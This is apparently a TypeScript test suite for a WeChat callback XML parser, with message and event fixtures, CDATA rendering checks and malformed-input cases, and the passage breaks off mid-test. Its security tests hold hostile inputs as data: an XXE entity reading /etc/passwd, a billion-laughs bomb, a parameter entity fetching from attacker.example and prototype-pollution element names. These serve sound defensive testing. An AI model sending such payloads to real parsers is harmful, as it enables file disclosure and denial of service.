import { performance } from 'node:perf_hooks';
import { MalformedXmlError } from './errors/malformed-xml.error';
import {
  asArray,
  isEvent,
  isWechatMessage,
  messageKind,
  type MassSendJobFinishEvent,
  type PicEvent,
  type SubscribeMsgPopupEvent,
  type WechatMessage,
  type WechatMessageBase,
} from './wechat-message';
import {
  parseGeneralXml,
  parseWechatXml,
  readPlainWechatXml,
  renderCdata,
  type WechatXmlValue,
} from './wechat-xml';

const ACCOUNT = 'gh_9f2c3e5a7b10';
const OPENID = 'oFOvYt5mZ0Yx6vLQ2B3rKcG8a1Hs';

/** The common head as WeChat sends it: CDATA for text, a bare number for CreateTime. */
function head(msgType: string, createTime = '1700000000'): string {
  return (
    `<ToUserName><![CDATA[${ACCOUNT}]]></ToUserName>\n` +
    `<FromUserName><![CDATA[${OPENID}]]></FromUserName>\n` +
    `<CreateTime>${createTime}</CreateTime>\n` +
    `<MsgType><![CDATA[${msgType}]]></MsgType>\n`
  );
}

const base = (msgType: string, createTime = '1700000000') => ({
  ToUserName: ACCOUNT,
  FromUserName: OPENID,
  CreateTime: createTime,
  MsgType: msgType,
});

const event = (name: string) => `${head('event')}<Event><![CDATA[${name}]]></Event>\n`;

interface Fixture {
  name: string;
  xml: string;
  expected: Record<string, WechatXmlValue>;
}

const MESSAGES: Fixture[] = [
  {
    name: 'text',
    xml:
      `<xml>${head('text', '1348831860')}<Content><![CDATA[this is a test]]></Content>\n` +
      `<MsgId>1234567890123456789</MsgId>\n</xml>`,
    expected: { ...base('text', '1348831860'), Content: 'this is a test', MsgId: '1234567890123456789' },
  },
  {
    name: 'image',
    xml:
      `<xml>\n  ${head('image').replaceAll('\n', '\n  ')}<PicUrl><![CDATA[http://mmbiz.qpic.cn/mmbiz_jpg/abc/0]]></PicUrl>\n` +
      `  <MsgId>24372385938270917</MsgId>\n  <MediaId><![CDATA[qYbG3WlZ0-2pCl6mBvgVnTqYHb4Zc9UcxU8xWlH8yM3pJZ]]></MediaId>\n</xml>`,
    expected: {
      ...base('image'),
      PicUrl: 'http://mmbiz.qpic.cn/mmbiz_jpg/abc/0',
      MsgId: '24372385938270917',
      MediaId: 'qYbG3WlZ0-2pCl6mBvgVnTqYHb4Zc9UcxU8xWlH8yM3pJZ',
    },
  },
  {
    name: 'voice (with speech recognition)',
    xml:
      `<xml>${head('voice')}<MediaId><![CDATA[Ls8w0YI4iNp3aW_hEpN2cQ]]></MediaId>\n` +
      `<Format><![CDATA[amr]]></Format>\n<MsgId>6207470547262279765</MsgId>\n` +
      `<Recognition><![CDATA[腾讯微信团队]]></Recognition>\n</xml>`,
    expected: {
      ...base('voice'),
      MediaId: 'Ls8w0YI4iNp3aW_hEpN2cQ',
      Format: 'amr',
      MsgId: '6207470547262279765',
      Recognition: '腾讯微信团队',
    },
  },
  {
    name: 'video',
    xml:
      `<xml>${head('video')}<MediaId><![CDATA[video_media_id]]></MediaId>\n` +
      `<ThumbMediaId><![CDATA[thumb_media_id]]></ThumbMediaId>\n<MsgId>6207470547262279766</MsgId>\n</xml>`,
    expected: {
      ...base('video'),
      MediaId: 'video_media_id',
      ThumbMediaId: 'thumb_media_id',
      MsgId: '6207470547262279766',
    },
  },
  {
    name: 'shortvideo',
    xml:
      `<xml>${head('shortvideo')}<MediaId><![CDATA[short_media_id]]></MediaId>\n` +
      `<ThumbMediaId><![CDATA[short_thumb_id]]></ThumbMediaId>\n<MsgId>6207470547262279767</MsgId>\n</xml>`,
    expected: {
      ...base('shortvideo'),
      MediaId: 'short_media_id',
      ThumbMediaId: 'short_thumb_id',
      MsgId: '6207470547262279767',
    },
  },
  {
    name: 'location',
    xml:
      `<xml>${head('location')}<Location_X>23.134521</Location_X>\n<Location_Y>113.358803</Location_Y>\n` +
      `<Scale>20</Scale>\n<Label><![CDATA[广州市天河区天河路]]></Label>\n<MsgId>6207470547262279768</MsgId>\n</xml>`,
    expected: {
      ...base('location'),
      Location_X: '23.134521',
      Location_Y: '113.358803',
      Scale: '20',
      Label: '广州市天河区天河路',
      MsgId: '6207470547262279768',
    },
  },
  {
    name: 'link',
    xml:
      `<xml>${head('link')}<Title><![CDATA[公众平台官网链接]]></Title>\n` +
      `<Description><![CDATA[公众平台官网链接]]></Description>\n` +
      `<Url><![CDATA[https://mp.weixin.qq.com/s?__biz=MzA&mid=2&idx=1]]></Url>\n<MsgId>6207470547262279769</MsgId>\n</xml>`,
    expected: {
      ...base('link'),
      Title: '公众平台官网链接',
      Description: '公众平台官网链接',
      Url: 'https://mp.weixin.qq.com/s?__biz=MzA&mid=2&idx=1',
      MsgId: '6207470547262279769',
    },
  },
];

const ev = (name: string, fields: Record<string, WechatXmlValue> = {}) => ({
  ...base('event'),
  Event: name,
  ...fields,
});

const EVENTS: Fixture[] = [
  {
    name: 'subscribe (plain follow)',
    xml: `<xml>${event('subscribe')}<EventKey><![CDATA[]]></EventKey>\n</xml>`,
    expected: ev('subscribe', { EventKey: '' }),
  },
  {
    name: 'subscribe (parametric QR code)',
    xml:
      `<xml>${event('subscribe')}<EventKey><![CDATA[qrscene_123123]]></EventKey>\n` +
      `<Ticket><![CDATA[gQH47joAAAAAAAAAASxodHRwOi8vd2VpeGluLnFxLmNvbS9xL2taZ2Z3TVRtNzJXV1Brb3ZhYmJJAAIEZ23sUwMEmm3sUw==]]></Ticket>\n</xml>`,
    expected: ev('subscribe', {
      EventKey: 'qrscene_123123',
      Ticket:
        'gQH47joAAAAAAAAAASxodHRwOi8vd2VpeGluLnFxLmNvbS9xL2taZ2Z3TVRtNzJXV1Brb3ZhYmJJAAIEZ23sUwMEmm3sUw==',
    }),
  },
  {
    name: 'unsubscribe',
    xml: `<xml>${event('unsubscribe')}<EventKey><![CDATA[]]></EventKey>\n</xml>`,
    expected: ev('unsubscribe', { EventKey: '' }),
  },
  {
    name: 'SCAN',
    xml:
      `<xml>${event('SCAN')}<EventKey><![CDATA[123123]]></EventKey>\n` +
      `<Ticket><![CDATA[gQH47joAAAAAAAAAASxodHRwOi8v]]></Ticket>\n</xml>`,
    expected: ev('SCAN', { EventKey: '123123', Ticket: 'gQH47joAAAAAAAAAASxodHRwOi8v' }),
  },
  {
    name: 'LOCATION',
    xml: `<xml>${event('LOCATION')}<Latitude>23.137466</Latitude>\n<Longitude>113.352425</Longitude>\n<Precision>119.385040</Precision>\n</xml>`,
    expected: ev('LOCATION', { Latitude: '23.137466', Longitude: '113.352425', Precision: '119.385040' }),
  },
  {
    name: 'CLICK',
    xml: `<xml>${event('CLICK')}<EventKey><![CDATA[V1001_TODAY_MUSIC]]></EventKey>\n</xml>`,
    expected: ev('CLICK', { EventKey: 'V1001_TODAY_MUSIC' }),
  },
  {
    name: 'VIEW',
    xml: `<xml>${event('VIEW')}<EventKey><![CDATA[https://www.qq.com/]]></EventKey>\n<MenuId>208379533</MenuId>\n</xml>`,
    expected: ev('VIEW', { EventKey: 'https://www.qq.com/', MenuId: '208379533' }),
  },
  {
    name: 'view_miniprogram',
    xml: `<xml>${event('view_miniprogram')}<EventKey><![CDATA[pages/index/index]]></EventKey>\n<MenuId>208379534</MenuId>\n</xml>`,
    expected: ev('view_miniprogram', { EventKey: 'pages/index/index', MenuId: '208379534' }),
  },
  {
    name: 'scancode_push',
    xml:
      `<xml>${event('scancode_push')}<EventKey><![CDATA[6]]></EventKey>\n` +
      `<ScanCodeInfo><ScanType><![CDATA[qrcode]]></ScanType>\n<ScanResult><![CDATA[1]]></ScanResult>\n</ScanCodeInfo>\n</xml>`,
    expected: ev('scancode_push', { EventKey: '6', ScanCodeInfo: { ScanType: 'qrcode', ScanResult: '1' } }),
  },
  {
    name: 'scancode_waitmsg',
    xml:
      `<xml>${event('scancode_waitmsg')}<EventKey><![CDATA[6]]></EventKey>\n` +
      `<ScanCodeInfo><ScanType><![CDATA[barcode]]></ScanType>\n<ScanResult><![CDATA[EAN_13,6901234567892]]></ScanResult>\n</ScanCodeInfo>\n</xml>`,
    expected: ev('scancode_waitmsg', {
      EventKey: '6',
      ScanCodeInfo: { ScanType: 'barcode', ScanResult: 'EAN_13,6901234567892' },
    }),
  },
  {
    name: 'pic_sysphoto (one picture)',
    xml:
      `<xml>${event('pic_sysphoto')}<EventKey><![CDATA[6]]></EventKey>\n` +
      `<SendPicsInfo><Count>1</Count>\n<PicList><item><PicMd5Sum><![CDATA[1b5f7c23b5bf75682a53e7b6d163e185]]></PicMd5Sum>\n</item>\n</PicList>\n</SendPicsInfo>\n</xml>`,
    expected: ev('pic_sysphoto', {
      EventKey: '6',
      SendPicsInfo: { Count: '1', PicList: { item: [{ PicMd5Sum: '1b5f7c23b5bf75682a53e7b6d163e185' }] } },
    }),
  },
  {
    name: 'pic_photo_or_album (several pictures)',
    xml:
      `<xml>${event('pic_photo_or_album')}<EventKey><![CDATA[6]]></EventKey>\n` +
      `<SendPicsInfo><Count>2</Count>\n<PicList>\n` +
      `<item><PicMd5Sum><![CDATA[5a75aaca956d97be686719218f275c6b]]></PicMd5Sum>\n</item>\n` +
      `<item><PicMd5Sum><![CDATA[9e8b8e1b8d27bd2b1f1e2b2ad9e5f8a0]]></PicMd5Sum>\n</item>\n` +
      `</PicList>\n</SendPicsInfo>\n</xml>`,
    expected: ev('pic_photo_or_album', {
      EventKey: '6',
      SendPicsInfo: {
        Count: '2',
        PicList: {
          item: [
            { PicMd5Sum: '5a75aaca956d97be686719218f275c6b' },
            { PicMd5Sum: '9e8b8e1b8d27bd2b1f1e2b2ad9e5f8a0' },
          ],
        },
      },
    }),
  },
  {
    name: 'pic_weixin',
    xml:
      `<xml>${event('pic_weixin')}<EventKey><![CDATA[6]]></EventKey>\n` +
      `<SendPicsInfo><Count>1</Count>\n<PicList><item><PicMd5Sum><![CDATA[5a75aaca956d97be686719218f275c6b]]></PicMd5Sum>\n</item>\n</PicList>\n</SendPicsInfo>\n</xml>`,
    expected: ev('pic_weixin', {
      EventKey: '6',
      SendPicsInfo: { Count: '1', PicList: { item: [{ PicMd5Sum: '5a75aaca956d97be686719218f275c6b' }] } },
    }),
  },
  {
    name: 'location_select',
    xml:
      `<xml>${event('location_select')}<EventKey><![CDATA[6]]></EventKey>\n` +
      `<SendLocationInfo><Location_X><![CDATA[23]]></Location_X>\n<Location_Y><![CDATA[113]]></Location_Y>\n` +
      `<Scale><![CDATA[15]]></Scale>\n<Label><![CDATA[ 广州市海珠区客村艺苑路 106号]]></Label>\n<Poiname><![CDATA[]]></Poiname>\n` +
      `</SendLocationInfo>\n</xml>`,
    expected: ev('location_select', {
      EventKey: '6',
      SendLocationInfo: {
        Location_X: '23',
        Location_Y: '113',
        Scale: '15',
        Label: ' 广州市海珠区客村艺苑路 106号',
        Poiname: '',
      },
    }),
  },
  {
    name: 'TEMPLATESENDJOBFINISH',
    xml: `<xml>${event('TEMPLATESENDJOBFINISH')}<MsgID>200163836</MsgID>\n<Status><![CDATA[success]]></Status>\n</xml>`,
    expected: ev('TEMPLATESENDJOBFINISH', { MsgID: '200163836', Status: 'success' }),
  },
  {
    name: 'TEMPLATESENDJOBFINISH (blocked by the user)',
    xml: `<xml>${event('TEMPLATESENDJOBFINISH')}<MsgID>200163840</MsgID>\n<Status><![CDATA[failed:user block]]></Status>\n</xml>`,
    expected: ev('TEMPLATESENDJOBFINISH', { MsgID: '200163840', Status: 'failed:user block' }),
  },
  {
    name: 'MASSSENDJOBFINISH',
    xml:
      `<xml>${event('MASSSENDJOBFINISH')}<MsgID>1000001625</MsgID>\n<Status><![CDATA[err(30003)]]></Status>\n` +
      `<TotalCount>0</TotalCount>\n<FilterCount>0</FilterCount>\n<SentCount>0</SentCount>\n<ErrorCount>0</ErrorCount>\n` +
      `<CopyrightCheckResult>\n  <Count>2</Count>\n  <ResultList>\n` +
      `    <item>\n      <ArticleIdx>1</ArticleIdx>\n      <UserDeclareState>0</UserDeclareState>\n      <AuditState>2</AuditState>\n` +
      `      <OriginalArticleUrl><![CDATA[Url_1]]></OriginalArticleUrl>\n      <OriginalArticleType>1</OriginalArticleType>\n` +
      `      <CanReprint>1</CanReprint>\n      <NeedReplaceContent>1</NeedReplaceContent>\n      <NeedShowReprintSource>1</NeedShowReprintSource>\n    </item>\n` +
      `    <item>\n      <ArticleIdx>2</ArticleIdx>\n      <UserDeclareState>0</UserDeclareState>\n      <AuditState>2</AuditState>\n` +
      `      <OriginalArticleUrl><![CDATA[Url_2]]></OriginalArticleUrl>\n      <OriginalArticleType>1</OriginalArticleType>\n` +
      `      <CanReprint>1</CanReprint>\n      <NeedReplaceContent>1</NeedReplaceContent>\n      <NeedShowReprintSource>1</NeedShowReprintSource>\n    </item>\n` +
      `  </ResultList>\n  <CheckState>2</CheckState>\n</CopyrightCheckResult>\n` +
      `<ArticleUrlResult>\n  <Count>1</Count>\n  <ResultList>\n    <item>\n      <ArticleIdx>1</ArticleIdx>\n` +
      `      <ArticleUrl><![CDATA[https://mp.weixin.qq.com/s/abc]]></ArticleUrl>\n    </item>\n  </ResultList>\n</ArticleUrlResult>\n</xml>`,
    expected: ev('MASSSENDJOBFINISH', {
      MsgID: '1000001625',
      Status: 'err(30003)',
      TotalCount: '0',
      FilterCount: '0',
      SentCount: '0',
      ErrorCount: '0',
      CopyrightCheckResult: {
        Count: '2',
        ResultList: {
          item: [1, 2].map((n) => ({
            ArticleIdx: String(n),
            UserDeclareState: '0',
            AuditState: '2',
            OriginalArticleUrl: `Url_${n}`,
            OriginalArticleType: '1',
            CanReprint: '1',
            NeedReplaceContent: '1',
            NeedShowReprintSource: '1',
          })),
        },
        CheckState: '2',
      },
      ArticleUrlResult: {
        Count: '1',
        ResultList: { item: [{ ArticleIdx: '1', ArticleUrl: 'https://mp.weixin.qq.com/s/abc' }] },
      },
    }),
  },
  {
    name: 'subscribe_msg_popup_event',
    xml:
      `<xml>${event('subscribe_msg_popup_event')}<SubscribeMsgPopupEvent>\n` +
      `<List>\n<TemplateId><![CDATA[uzFjHOOsXXgrXl0YHhyNV7jkOKy3Eotj3MhvnTkGA9o]]></TemplateId>\n` +
      `<SubscribeStatusString><![CDATA[reject]]></SubscribeStatusString>\n<PopupScene>0</PopupScene>\n</List>\n` +
      `<List>\n<TemplateId><![CDATA[IHfdMu-oSryLsdvEQqEjB-tKMW8h6g0h2Joj0wTPNdY]]></TemplateId>\n` +
      `<SubscribeStatusString><![CDATA[accept]]></SubscribeStatusString>\n<PopupScene>0</PopupScene>\n</List>\n` +
      `</SubscribeMsgPopupEvent></xml>`,
    expected: ev('subscribe_msg_popup_event', {
      SubscribeMsgPopupEvent: {
        List: [
          {
            TemplateId: 'uzFjHOOsXXgrXl0YHhyNV7jkOKy3Eotj3MhvnTkGA9o',
            SubscribeStatusString: 'reject',
            PopupScene: '0',
          },
          {
            TemplateId: 'IHfdMu-oSryLsdvEQqEjB-tKMW8h6g0h2Joj0wTPNdY',
            SubscribeStatusString: 'accept',
            PopupScene: '0',
          },
        ],
      },
    }),
  },
  {
    name: 'subscribe_msg_change_event (a single entry is still a list)',
    xml:
      `<xml>${event('subscribe_msg_change_event')}<SubscribeMsgChangeEvent>\n` +
      `<List>\n<TemplateId><![CDATA[IHfdMu-oSryLsdvEQqEjB-tKMW8h6g0h2Joj0wTPNdY]]></TemplateId>\n` +
      `<SubscribeStatusString><![CDATA[reject]]></SubscribeStatusString>\n</List>\n</SubscribeMsgChangeEvent></xml>`,
    expected: ev('subscribe_msg_change_event', {
      SubscribeMsgChangeEvent: {
        List: [
          { TemplateId: 'IHfdMu-oSryLsdvEQqEjB-tKMW8h6g0h2Joj0wTPNdY', SubscribeStatusString: 'reject' },
        ],
      },
    }),
  },
  {
    name: 'subscribe_msg_sent_event',
    xml:
      `<xml>${event('subscribe_msg_sent_event')}<SubscribeMsgSentEvent>\n` +
      `<List>\n<TemplateId><![CDATA[IHfdMu-oSryLsdvEQqEjB-tKMW8h6g0h2Joj0wTPNdY]]></TemplateId>\n` +
      `<MsgID>2794188253209100289</MsgID>\n<ErrorCode>0</ErrorCode>\n<ErrorStatus><![CDATA[success]]></ErrorStatus>\n` +
      `</List>\n</SubscribeMsgSentEvent></xml>`,
    expected: ev('subscribe_msg_sent_event', {
      SubscribeMsgSentEvent: {
        List: [
          {
            TemplateId: 'IHfdMu-oSryLsdvEQqEjB-tKMW8h6g0h2Joj0wTPNdY',
            MsgID: '2794188253209100289',
            ErrorCode: '0',
            ErrorStatus: 'success',
          },
        ],
      },
    }),
  },
  {
    name: 'kf_create_session',
    xml: `<xml>${event('kf_create_session')}<KfAccount><![CDATA[test1@test]]></KfAccount>\n</xml>`,
    expected: ev('kf_create_session', { KfAccount: 'test1@test' }),
  },
  {
    name: 'kf_close_session',
    xml: `<xml>${event('kf_close_session')}<KfAccount><![CDATA[test1@test]]></KfAccount>\n</xml>`,
    expected: ev('kf_close_session', { KfAccount: 'test1@test' }),
  },
  {
    name: 'kf_switch_session',
    xml:
      `<xml>${event('kf_switch_session')}<FromKfAccount><![CDATA[test1@test]]></FromKfAccount>\n` +
      `<ToKfAccount><![CDATA[test2@test]]></ToKfAccount>\n</xml>`,
    expected: ev('kf_switch_session', { FromKfAccount: 'test1@test', ToKfAccount: 'test2@test' }),
  },
];

/** Every leaf of a parsed value, with its path. */
function leaves(value: unknown, path = ''): [string, unknown][] {
  if (Array.isArray(value)) return value.flatMap((child, index) => leaves(child, `${path}[${index}]`));
  if (value !== null && typeof value === 'object') {
    return Object.entries(value).flatMap(([key, child]) => leaves(child, path ? `${path}.${key}` : key));
  }
  return [[path, value]];
}

function expectMalformed(body: string): MalformedXmlError {
  let caught: unknown;
  try {
    parseWechatXml(body);
  } catch (error) {
    caught = error;
  }
  expect(caught).toBeInstanceOf(MalformedXmlError);
  return caught as MalformedXmlError;
}

describe('parseWechatXml', () => {
  describe.each([
    ['message', MESSAGES],
    ['event', EVENTS],
  ])('every %s type of the protocol', (_, fixtures) => {
    it.each(fixtures.map((f) => [f.name, f] as const))('parses %s field by field', (_name, fixture) => {
      expect(parseWechatXml(fixture.xml)).toStrictEqual(fixture.expected);
    });

    it.each(fixtures.map((f) => [f.name, f] as const))(
      'gives only string leaves for %s',
      (_name, fixture) => {
        const all = leaves(parseWechatXml(fixture.xml));
        expect(all.length).toBeGreaterThan(4);
        for (const [path, leaf] of all) expect([path, typeof leaf]).toEqual([path, 'string']);
      },
    );
  });

  it('keeps a 64-bit MsgId and CreateTime as exact strings', () => {
    const message = parseWechatXml(MESSAGES[0]!.xml);
    expect(message.MsgId).toBe('1234567890123456789');
    expect(message.CreateTime).toBe('1348831860');
    // the same digits as a JavaScript number would have lost precision
    expect(String(Number('1234567890123456789'))).not.toBe('1234567890123456789');
  });

  it('keeps the exact text of CDATA, leading and trailing spaces and newlines included', () => {
    const content = '  第一行\n  second line <b>&amp;</b>  \n';
    const message = parseWechatXml(`<xml>${head('text')}<Content><![CDATA[${content}]]></Content></xml>`);
    expect(message.Content).toBe(content);
  });

  it('normalizes CRLF line ends to LF, as every XML parser must', () => {
    const message = parseWechatXml(`<xml>${head('text')}<Content><![CDATA[a\r\nb]]></Content></xml>`);
    expect(message.Content).toBe('a\nb');
  });

  it('ignores indentation, CRLF line ends and whitespace around CDATA between elements', () => {
    const xml =
      '<xml>\r\n\t<ToUserName>\r\n\t\t<![CDATA[gh_a]]>\r\n\t</ToUserName>\r\n\t<FromUserName><![CDATA[o_b]]></FromUserName>\r\n' +
      '\t<CreateTime> 1700000000 </CreateTime>\r\n\t<MsgType><![CDATA[event]]></MsgType>\r\n\t<Event><![CDATA[CLICK]]></Event>\r\n</xml>\r\n';
    expect(parseWechatXml(xml)).toStrictEqual({
      ToUserName: 'gh_a',
      FromUserName: 'o_b',
      CreateTime: '1700000000',
      MsgType: 'event',
      Event: 'CLICK',
    });
  });

  it('accepts an XML declaration and a byte-order mark', () => {
    const body = `\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<xml>${head('text')}<Content><![CDATA[hi]]></Content></xml>`;
    expect(parseWechatXml(body)).toMatchObject({ MsgType: 'text', Content: 'hi' });
  });

  it('turns empty elements of every spelling into empty strings', () => {
    const message = parseWechatXml(
      `<xml>${head('event')}<Event><![CDATA[subscribe]]></Event><EventKey></EventKey><Ticket/><A><![CDATA[]]></A><B> </B></xml>`,
    );
    expect(message).toMatchObject({ EventKey: '', Ticket: '', A: '', B: '' });
  });

  it('passes an unknown MsgType and its unknown fields through untouched', () => {
    const message = parseWechatXml(
      `<xml>${head('miniprogrampage')}<Title><![CDATA[小程序]]></Title><AppId><![CDATA[wx0123456789abcdef]]></AppId>` +
        `<PagePath><![CDATA[pages/a?x=1]]></PagePath><Extra><Deep><Deeper>42</Deeper></Deep></Extra><MsgId>9</MsgId></xml>`,
    );
    expect(message).toStrictEqual({
      ...base('miniprogrampage'),
      Title: '小程序',
      AppId: 'wx0123456789abcdef',
      PagePath: 'pages/a?x=1',
      Extra: { Deep: { Deeper: '42' } },
      MsgId: '9',
    });
    expect(messageKind(message as WechatMessageBase)).toEqual({
      type: 'message',
      msgType: 'miniprogrampage',
    });
  });

  it('passes an unknown event and unknown fields of a known one through', () => {
    const unknown = parseWechatXml(
      `<xml>${event('user_info_modified')}<OpenID><![CDATA[${OPENID}]]></OpenID><AppID><![CDATA[wx1]]></AppID><RevokeInfo>301</RevokeInfo></xml>`,
    );
    expect(unknown).toStrictEqual(
      ev('user_info_modified', { OpenID: OPENID, AppID: 'wx1', RevokeInfo: '301' }),
    );
    const known = parseWechatXml(
      `<xml>${event('CLICK')}<EventKey><![CDATA[K]]></EventKey><NewField>x</NewField></xml>`,
    );
    expect(known).toStrictEqual(ev('CLICK', { EventKey: 'K', NewField: 'x' }));
  });

  it('makes repeats of an unknown element an array and keeps a single one as a value', () => {
    const message = parseWechatXml(
      `<xml>${head('event')}<Event>x</Event><Tag>a</Tag><Tag>b</Tag><One>c</One></xml>`,
    );
    expect(message.Tag).toEqual(['a', 'b']);
    expect(message.One).toBe('c');
    expect(asArray(message.One)).toEqual(['c']);
    expect(asArray(message.Tag)).toEqual(['a', 'b']);
    expect(asArray(message.Missing)).toEqual([]);
  });

  it('ignores attributes', () => {
    const message = parseWechatXml(`<xml>${head('text')}<Content type="x"><![CDATA[hi]]></Content></xml>`);
    expect(message.Content).toBe('hi');
  });

  it('accepts an empty <xml/> as an object without fields', () => {
    expect(parseWechatXml('<xml/>')).toStrictEqual({});
    expect(parseWechatXml('<xml>\n</xml>')).toStrictEqual({});
  });

  describe('rejects what WeChat never sends', () => {
    it.each([
      ['an empty body', ''],
      ['whitespace', '  \n '],
      ['the word success', 'success'],
      ['JSON', '{"ToUserName":"gh_a"}'],
      ['an unclosed root', `<xml>${head('text')}`],
      ['crossed tags', '<xml><Content><MsgId>1</Content></MsgId></xml>'],
      ['a mismatched closing tag', '<xml><A>1</B></xml>'],
      ['an unclosed CDATA section', '<xml><Content><![CDATA[abc</Content></xml>'],
      ['a bare ampersand', '<xml><Url>http://a/?x=1&y=2</Url></xml>'],
      ['two roots', '<xml><A>1</A></xml><xml><A>2</A></xml>'],
      ['text after the root', '<xml><A>1</A></xml>trailing'],
      ['another root element', `<message>${head('text')}</message>`],
      ['a namespaced root', '<w:xml xmlns:w="urn:x"><A>1</A></w:xml>'],
      ['text instead of fields', '<xml>just text</xml>'],
      ['an HTML page', '<!DOCTYPE html><html><body>502 Bad Gateway</body></html>'],
      ['a nesting 200 levels deep', `<xml>${'<a>'.repeat(200)}${'</a>'.repeat(200)}</xml>`],
    ])('%s is a MalformedXmlError', (_name, body) => {
      expectMalformed(body);
    });

    it.each(['__proto__', 'constructor', 'prototype'])(
      'an element named %s is a MalformedXmlError and pollutes nothing',
      (name) => {
        expectMalformed(`<xml>${head('text')}<${name}><polluted>yes</polluted></${name}></xml>`);
        expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      },
    );

    it('never quotes the body in the error', () => {
      const secret = 'SECRET-CONTENT-7f3a';
      for (const body of [
        `<xml><${secret}>1</Other></xml>`,
        `<${secret}><A>1</A></${secret}>`,
        `<xml>${secret}</xml>`,
        `<!DOCTYPE xml [<!ENTITY x "${secret}">]><xml><A>&x;</A></xml>`,
        `<xml><__proto__>${secret}</__proto__></xml>`,
      ]) {
        const error = expectMalformed(body);
        expect(error.message).not.toContain(secret);
        expect(JSON.stringify({ ...error })).not.toContain(secret);
      }
    });

    it('reports the line and column of a syntax error', () => {
      const error = expectMalformed('<xml>\n<A>1</B>\n</xml>');
      expect(error.line).toBe(2);
      expect(error.column).toEqual(expect.any(Number));
      expect(error.message).toMatch(
        /^malformed callback XML: not well-formed XML \(InvalidTag\) \(line 2, column \d+\)$/,
      );
    });
  });

  describe('DOCTYPE and entities', () => {
    const XXE = '<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><Content>&x;</Content></xml>';
    const BILLION_LAUGHS =
      '<?xml version="1.0"?>\n<!DOCTYPE xml [\n <!ENTITY lol "lol">\n' +
      Array.from(
        { length: 9 },
        (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">\n`,
      ).join('') +
      ']>\n<xml><Content>&lol9;</Content></xml>';

    it('refuses an external-entity (XXE) payload without reading the file', () => {
      const error = expectMalformed(XXE);
      expect(error.reason).toBe('a DOCTYPE is not accepted');
      expect(error.message).not.toMatch(/root:|nologin|\/bin\//);
    });

    it('refuses a billion-laughs payload at once, without expanding it', () => {
      const started = performance.now();
      const error = expectMalformed(BILLION_LAUGHS);
      expect(performance.now() - started).toBeLessThan(50);
      expect(error.reason).toBe('a DOCTYPE is not accepted');
    });

    it.each([
      ['a lowercase doctype', '<!doctype xml><xml><A>1</A></xml>'],
      ['an internal entity', '<!DOCTYPE xml [<!ENTITY x "EXPANDED">]><xml><Content>&x;</Content></xml>'],
      ['a DOCTYPE after a comment', '<!-- hi --><!DOCTYPE xml><xml><A>1</A></xml>'],
      [
        'a DOCTYPE inside the root',
        '<xml><!DOCTYPE xml [<!ENTITY x "EXPANDED">]><Content>&x;</Content></xml>',
      ],
      [
        'a parameter entity',
        '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><xml/>',
      ],
    ])('refuses %s', (_name, body) => {
      expect(expectMalformed(body).reason).toBe('a DOCTYPE is not accepted');
    });

    it('keeps "<!DOCTYPE" typed by a user inside CDATA as plain content', () => {
      const content = '<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;';
      const message = parseWechatXml(`<xml>${head('text')}<Content><![CDATA[${content}]]></Content></xml>`);
      expect(message.Content).toBe(content);
    });

    it('leaves entity references unexpanded', () => {
      const message = parseWechatXml(
        `<xml>${head('text')}<Content>&x;</Content><Url>a&amp;b&#60;</Url><Note><![CDATA[&lt;]]></Note></xml>`,
      );
      expect(message).toMatchObject({ Content: '&x;', Url: 'a&amp;b&#60;', Note: '&lt;' });
    });
  });
});

describe('renderCdata', () => {
  it('gives the same CDATA on its plain-text shortcut as the full rewrite, on 20,000 random texts', () => {
    const alphabet = [
      'a',
      ' ',
      '\n',
      '\t',
      '\r',
      ']',
      ']]>',
      '>',
      '\u0000',
      '\u0007',
      '中',
      '😀',
      '\ud800',
      '\udc00',
      '\ufffe',
      '\uffff',
      '\u00a0',
    ];
    const full = (text: string): string =>
      `<![CDATA[${text.replace(/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/gu, '').replaceAll(']]>', ']]]]><![CDATA[>')}]]>`;
    let seed = 7;
    const next = (): number => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    for (let i = 0; i < 20_000; i++) {
      let text = '';
      for (let n = Math.floor(next() * 8); n > 0; n--) text += alphabet[Math.floor(next() * alphabet.length)];
      expect(renderCdata(text)).toBe(full(text));
    }
  });

  it('wraps plain text in one CDATA section', () => {
    expect(renderCdata('你好 <b>&amp;</b>')).toBe('<![CDATA[你好 <b>&amp;</b>]]>');
    expect(renderCdata('')).toBe('<![CDATA[]]>');
  });

  it('splits a "]]>" across two sections', () => {
    expect(renderCdata('a]]>b')).toBe('<![CDATA[a]]]]><![CDATA[>b]]>');
  });

  it.each([
    ']]>',
    'a]]>b]]>c',
    ']]]>>',
    ']]',
    '<![CDATA[x]]>',
    '  spaced  ',
    'line\nline\n',
    '😀 表情 ]]> end',
  ])('round-trips %j through a parse', (content) => {
    const xml = `<xml><Content>${renderCdata(content)}</Content></xml>`;
    expect(parseWechatXml(xml).Content).toBe(content);
  });

  it('drops characters XML cannot carry, so the reply stays well-formed', () => {
    const rendered = renderCdata('a\u0000b\u0008c\uFFFEd\uD800e\tf');
    expect(rendered).toBe('<![CDATA[abcde\tf]]>');
    expect(parseWechatXml(`<xml><C>${rendered}</C></xml>`).C).toBe('abcde\tf');
  });
});

describe('message helpers', () => {
  const all = [...MESSAGES, ...EVENTS].map((f) => parseWechatXml(f.xml));

  it('recognises every parsed fixture as a WeChat message, and rejects other shapes', () => {
    for (const message of all) expect(isWechatMessage(message)).toBe(true);
    expect(isWechatMessage({ ToUserName: 'a', FromUserName: 'b', CreateTime: 1, MsgType: 'text' })).toBe(
      false,
    );
    expect(isWechatMessage(null)).toBe(false);
    expect(isWechatMessage('xml')).toBe(false);
  });

  it('tells messages from events', () => {
    const kinds = all.map((m) => messageKind(m as WechatMessageBase));
    expect(kinds.slice(0, MESSAGES.length)).toEqual(
      ['text', 'image', 'voice', 'video', 'shortvideo', 'location', 'link'].map((msgType) => ({
        type: 'message',
        msgType,
      })),
    );
    expect(kinds.slice(MESSAGES.length)).toEqual(
      EVENTS.map((f) => ({ type: 'event', event: f.expected.Event })),
    );
    expect(all.map((m) => isEvent(m as WechatMessageBase))).toEqual([
      ...MESSAGES.map(() => false),
